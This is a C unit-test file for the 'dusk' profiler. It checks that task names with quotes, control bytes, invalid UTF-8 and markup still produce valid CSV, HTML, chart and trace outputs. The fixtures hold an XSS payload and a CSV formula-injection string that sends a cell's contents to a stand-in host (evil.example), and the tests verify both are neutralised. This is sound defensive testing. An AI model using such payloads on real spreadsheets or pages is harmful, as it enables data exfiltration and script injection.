/*
** dusk tests — the profiler's outputs for tasks with odd names
**
** Keys and function names are any bytes but NUL: quotes, backslashes,
** line breaks, control characters, markup, bytes that are not UTF-8.
** Every output must still be written, and be what its readers accept:
**  - the charts and the report draw such names (cairo refuses text that
**    is not UTF-8, which must not cost the whole picture); the report is
**    UTF-8, as it says, with no control character, and no name makes
**    markup;
**  - the task and cache CSVs are UTF-8 (a reader that decodes them, as
**    pandas and Python's csv module do, must not fail), with a byte that
**    is not UTF-8 taken as Latin-1, as the trace's \u00XX takes it, and
**    each key reads back as one field; a key, function or group that a
**    spreadsheet would run as a formula (=, +, -, @, tab, CR first) is
**    written as text ('=...), the number columns as they are;
**  - the trace reads back when two task groups differ only in a byte that
**    is not UTF-8 (its cache counter, one arg per group, has no repeated
**    name).
*/
#define _POSIX_C_SOURCE 200809L
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "dusk.h"
#include "dusk/profiler.h"
#include "helpers.h"

static int one(dusk_value *const *args, size_t nargs, dusk_value **out, dusk_error *err,
               void *ud)
{
    (void)args;
    (void)nargs;
    (void)err;
    (void)ud;
    *out = dusk_int(1);
    return 0;
}

/* Names of keys and functions; the last two are not UTF-8 (a lone 0xff,
 * a sequence cut short at the end). */
static const char *const odd[] = {
    "quote\"and\\backslash", "comma,and\nnewline", "</script><img src=x onerror=alert(1)>",
    "ctl\x01\x1f\x7f", "latin1 caf\xe9", "cut \xc3",
};
#define NODD (sizeof odd / sizeof *odd)

/* A chain of tasks, task i keyed odd[i] and calling a function named
 * odd[i + 1], run once under a profiler. */
static dusk_profiler *profile_odd(void)
{
    static dusk_func fs[NODD];
    dusk_graph *g = dusk_graph_new();
    for (size_t i = 0; i < NODD; i++) {
        fs[i] = (dusk_func){odd[(i + 1) % NODD], one, NULL};
        if (i == 0)
            assert_int_equal(dusk_task(g, odd[i], &fs[i], dusk_lit_int(1)), 0);
        else
            assert_int_equal(dusk_task(g, odd[i], &fs[i], dusk_ref(odd[i - 1])), 0);
    }
    dusk_profiler *p = run_profiled(g, odd[NODD - 1]);
    dusk_graph_free(g);
    assert_int_equal(dusk_profiler_ntasks(p), NODD);
    return p;
}

/* Whether the n bytes at s are valid UTF-8 (no overlong form, no
 * surrogate, nothing past U+10FFFF). */
static int valid_utf8(const unsigned char *s, size_t n)
{
    for (size_t i = 0; i < n;) {
        unsigned c = s[i];
        size_t k = c < 0x80 ? 1 : c >= 0xc2 && c <= 0xdf ? 2 : c >= 0xe0 && c <= 0xef ? 3
                 : c >= 0xf0 && c <= 0xf4 ? 4 : 0;
        if (!k || i + k > n)
            return 0;
        for (size_t j = 1; j < k; j++)
            if ((s[i + j] & 0xc0) != 0x80)
                return 0;
        if ((c == 0xe0 && s[i + 1] < 0xa0) || (c == 0xed && s[i + 1] > 0x9f) ||
            (c == 0xf0 && s[i + 1] < 0x90) || (c == 0xf4 && s[i + 1] > 0x8f))
            return 0;
        i += k;
    }
    return 1;
}

/* The fields of the RFC 4180 record at *s (quoted fields may hold line
 * breaks), unquoted into out; *s moves past the record's LF. */
static int csv_record(char **s, char **out, int max)
{
    int n = 0;
    char *r = *s, *w = *s;
    for (;;) {
        assert_true(n < max);
        out[n++] = w;
        if (*r == '"') {
            for (r++;; r++) {
                assert_true(*r != '\0');   /* a quote left open */
                if (*r == '"' && r[1] != '"')
                    break;
                if (*r == '"')
                    r++;
                *w++ = *r;
            }
            r++;
        } else {
            while (*r && *r != ',' && *r != '\n')
                *w++ = *r++;
        }
        char end = *r;
        *w++ = '\0';
        if (end == ',') {
            r++;
            continue;
        }
        assert_int_equal(end, '\n');
        *s = r + 1;
        w = *s;
        return n;
    }
}

/* What a name is as UTF-8 text: a stray byte read as Latin-1. */
static void as_utf8(const char *s, char *out, size_t n)
{
    size_t k = 0;
    for (const unsigned char *c = (const unsigned char *)s; *c && k + 3 < n; c++) {
        if (*c == 0xe9 || *c == 0xc3) {   /* the stray bytes of odd[] */
            out[k++] = (char)(0xc0 | *c >> 6);
            out[k++] = (char)(0x80 | (*c & 0x3f));
        } else {
            out[k++] = (char)*c;
        }
    }
    out[k] = '\0';
}

static void test_csv(void **state)
{
    (void)state;
    long live = dusk_alloc_live();
    dusk_profiler *p = profile_odd();
    dusk_error err = DUSK_ERROR_INIT;
    if (dusk_profiler_write_tasks_csv(p, scratch("odd.csv"), &err) != 0)
        fail_msg("tasks csv: %s", err.msg);
    size_t len;
    char *csv = slurp(scratch("odd.csv"), &len), *s = csv, *f[16];
    if (!valid_utf8((const unsigned char *)csv, len))
        fail_msg("the task CSV is not UTF-8");
    assert_int_equal(csv_record(&s, f, 16), 12);
    assert_string_equal(f[1], "key");
    size_t rows = 0;
    while (*s) {
        assert_int_equal(csv_record(&s, f, 16), 12);
        int64_t id = strtoll(f[0], NULL, 10);
        assert_true(id >= 0 && id < (int64_t)NODD);
        char want[128];
        as_utf8(odd[id], want, sizeof want);
        assert_string_equal(f[1], want);
        as_utf8(odd[(id + 1) % (int64_t)NODD], want, sizeof want);
        assert_string_equal(f[2], want);
        rows++;
    }
    assert_int_equal(rows, NODD);
    free(csv);

    if (dusk_profiler_write_cache_csv(p, scratch("odd-cache.csv"), &err) != 0)
        fail_msg("cache csv: %s", err.msg);
    csv = slurp(scratch("odd-cache.csv"), &len);
    if (!valid_utf8((const unsigned char *)csv, len))
        fail_msg("the cache CSV is not UTF-8");
    for (s = csv; *s;)
        assert_int_equal(csv_record(&s, f, 16), 3);
    free(csv);
    dusk_profiler_free(p);
    assert_int_equal(dusk_alloc_live(), live);
}

/* Formula injection (OWASP "CSV injection"): a text cell that begins with
 * =, +, -, @, a tab or a carriage return is one a spreadsheet runs as a
 * formula. Such keys, functions and groups are written quoted with a '
 * in front; the number columns are not touched (a failed task's negative
 * status stays a number), nor is any other text. */
static int risky(const char *s) { return s[0] && strchr("=+-@\t\r", s[0]) != NULL; }

static void test_csv_formulas(void **state)
{
    (void)state;
    long live = dusk_alloc_live();
    static const char trace[] =
        "[{\"name\":\"f\",\"ph\":\"X\",\"ts\":0,\"dur\":5,\"tid\":0,"
        "\"args\":{\"id\":0,\"bytes\":8,\"key\":\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,"
        "\\\"see\\\")\"}},\n"
        "{\"name\":\"f\",\"ph\":\"X\",\"ts\":10,\"dur\":5,\"tid\":0,"
        "\"args\":{\"id\":1,\"bytes\":8,\"key\":\"-1\",\"status\":-5}},\n"
        "{\"name\":\"@fn\",\"ph\":\"X\",\"ts\":20,\"dur\":5,\"tid\":0,"
        "\"args\":{\"id\":2,\"bytes\":8,\"key\":\"+1\"}},\n"
        "{\"name\":\"f\",\"ph\":\"X\",\"ts\":30,\"dur\":5,\"tid\":0,"
        "\"args\":{\"id\":3,\"bytes\":8,\"key\":\"@SUM(A1)\"}},\n"
        "{\"name\":\"f\",\"ph\":\"X\",\"ts\":40,\"dur\":5,\"tid\":0,"
        "\"args\":{\"id\":4,\"bytes\":8,\"key\":\"\\tx\"}},\n"
        "{\"name\":\"f\",\"ph\":\"X\",\"ts\":50,\"dur\":5,\"tid\":0,"
        "\"args\":{\"id\":5,\"bytes\":8,\"key\":\"\\rx\"}},\n"
        "{\"name\":\"f\",\"ph\":\"X\",\"ts\":60,\"dur\":5,\"tid\":0,"
        "\"args\":{\"id\":6,\"bytes\":8,\"key\":\"plain-2\"}}]";
    dusk_profiler *p = NULL;
    dusk_error err = DUSK_ERROR_INIT;
    if (dusk_profiler_read_trace_buffer(trace, sizeof trace - 1, "t", &p, &err) != 0)
        fail_msg("%s", err.msg);
    assert_int_equal(dusk_profiler_ntasks(p), 7);
    if (dusk_profiler_write_tasks_csv(p, scratch("formulas.csv"), &err) != 0)
        fail_msg("tasks csv: %s", err.msg);
    char *csv = slurp(scratch("formulas.csv"), NULL), *s = csv, *f[16];
    /* as written: quoted, the ' inside the quotes; the status a bare number */
    assert_contains(csv, "\n0,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"see\"\")\",f,");
    assert_contains(csv, "\n1,\"'-1\",f,");
    assert_contains(csv, ",-5\n2,\"'+1\",\"'@fn\",");
    assert_contains(csv, "\n6,plain-2,f,plain,");
    assert_int_equal(csv_record(&s, f, 16), 12);
    const dusk_task_record *r = dusk_profiler_tasks(p);
    size_t rows = 0;
    while (*s) {
        assert_int_equal(csv_record(&s, f, 16), 12);
        const dusk_task_record *t = NULL;
        for (size_t i = 0; i < 7; i++)
            if (r[i].task == strtoll(f[0], NULL, 10))
                t = &r[i];
        assert_non_null(t);
        const char *want[3] = {t->key, t->func, t->group};
        for (int c = 0; c < 3; c++) {
            char quoted[128];
            snprintf(quoted, sizeof quoted, "%s%s", risky(want[c]) ? "'" : "", want[c]);
            if (strcmp(f[1 + c], quoted) != 0)
                fail_msg("task %lld, column %d: \"%s\", want \"%s\"", (long long)t->task,
                         1 + c, f[1 + c], quoted);
        }
        /* the numbers: as they are, a negative one too */
        char num[32];
        snprintf(num, sizeof num, "%d", (int)t->status);
        assert_string_equal(f[11], num);
        snprintf(num, sizeof num, "%d", (int)t->worker);
        assert_string_equal(f[4], num);
        rows++;
    }
    assert_int_equal(rows, 7);
    assert_int_equal(r[1].status, -5);
    free(csv);

    /* the cache CSV's group column too */
    if (dusk_profiler_write_cache_csv(p, scratch("formulas-cache.csv"), &err) != 0)
        fail_msg("cache csv: %s", err.msg);
    csv = slurp(scratch("formulas-cache.csv"), NULL);
    int quoted = 0;
    s = csv;
    assert_int_equal(csv_record(&s, f, 16), 3);
    while (*s) {
        assert_int_equal(csv_record(&s, f, 16), 3);
        if (risky(f[1]))
            fail_msg("the cache CSV has a group \"%s\"", f[1]);
        quoted += f[1][0] == '\'';
        assert_true(f[0][0] >= '0' && f[0][0] <= '9');
    }
    assert_true(quoted > 0);
    free(csv);
    dusk_profiler_free(p);
    assert_int_equal(dusk_alloc_live(), live);
}

static void test_charts_and_report(void **state)
{
    (void)state;
    long live = dusk_alloc_live();
    dusk_profiler *p = profile_odd();
    dusk_error err = DUSK_ERROR_INIT;
    static const char *const charts[] = {"odd.png", "odd.svg", "odd.pdf"};
    for (size_t i = 0; i < 3; i++) {
        dusk_chart_options o = DUSK_CHART_OPTIONS_INIT;
        o.title = odd[NODD - 2];   /* the title too */
        if (dusk_profiler_write_chart(p, scratch(charts[i]), &o, &err) != 0)
            fail_msg("%s: %s", charts[i], err.msg);
        assert_true(file_exists(scratch(charts[i])));
    }
    if (dusk_profiler_write_report(p, scratch("odd.html"), NULL, &err) != 0)
        fail_msg("report: %s", err.msg);
    size_t len;
    char *html = slurp(scratch("odd.html"), &len);
    /* the charts are in it, and no name made markup of its own */
    assert_contains(html, "<img class=\"chart static\"");
    assert_false(contains(html, "<img src=x"));
    assert_false(contains(html, "</script><img"));
    /* the page is UTF-8, as its <meta charset> says, and holds no
     * control character (an HTML parse error) */
    if (!valid_utf8((const unsigned char *)html, len))
        fail_msg("the report is not UTF-8");
    for (size_t i = 0; i < len; i++)
        if ((unsigned char)html[i] < 0x20 && html[i] != '\n' && html[i] != '\t' &&
            html[i] != '\r')
            fail_msg("control character 0x%02x at byte %zu of the report", html[i], i);
    assert_contains(html, "latin1 caf\xc3\xa9");
    free(html);
    dusk_profiler_free(p);
    assert_int_equal(dusk_alloc_live(), live);
}

/* Two task groups that read the same once the one that is not UTF-8 is
 * taken as Latin-1 ("caf\xe9" and "café"): the trace's cache counter
 * names them apart, so that dusk reads its own trace back. */
static void test_trace_groups_apart(void **state)
{
    (void)state;
    long live = dusk_alloc_live();
    dusk_graph *g = dusk_graph_new();
    assert_int_equal(dusk_task(g, "caf\xe9-1", &dusk_inc, dusk_lit_int(1)), 0);
    assert_int_equal(dusk_task(g, "caf\xc3\xa9-2", &dusk_inc, dusk_lit_int(2)), 0);
    assert_int_equal(dusk_task(g, "z", &dusk_add, dusk_ref("caf\xe9-1"),
                               dusk_ref("caf\xc3\xa9-2")), 0);
    dusk_profiler *p = run_profiled(g, "z");
    dusk_graph_free(g);
    dusk_error err = DUSK_ERROR_INIT;
    assert_int_equal(dusk_profiler_ngroups(p), 3);
    if (dusk_profiler_write_trace(p, scratch("groups.json"), NULL, &err) != 0)
        fail_msg("trace: %s", err.msg);
    dusk_profiler *q = NULL;
    if (dusk_profiler_read_trace(scratch("groups.json"), &q, &err) != 0)
        fail_msg("dusk does not read its own trace back: %s", err.msg);
    assert_int_equal(dusk_profiler_ntasks(q), 3);
    char *text = slurp(scratch("groups.json"), NULL);
    assert_contains(text, "\"caf\xc3\xa9\":");
    assert_contains(text, "\"caf\xc3\xa9 #2\":");
    free(text);
    dusk_profiler_free(q);
    dusk_profiler_free(p);
    assert_int_equal(dusk_alloc_live(), live);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_teardown(test_charts_and_report, reset_alloc),
        cmocka_unit_test_teardown(test_csv, reset_alloc),
        cmocka_unit_test_teardown(test_csv_formulas, reset_alloc),
        cmocka_unit_test_teardown(test_trace_groups_apart, reset_alloc),
    };
    return cmocka_run_group_tests_name("profiler_odd_names", tests, scratch_setup,
                                       scratch_teardown);
}
